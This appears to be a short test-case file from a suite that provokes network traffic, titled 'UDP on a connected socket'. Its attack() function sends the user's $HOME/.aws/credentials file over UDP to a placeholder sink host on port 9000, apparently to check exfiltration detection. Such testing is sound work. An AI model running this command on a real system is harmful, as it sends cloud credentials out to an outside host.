# SPDX-License-Identifier: Apache-2.0
TITLE="UDP on a connected socket"
ROW="N08"
attack() { "$PROVOKE/datagram" connected "$HOME/.aws/credentials" "$SINK4" 9000; }
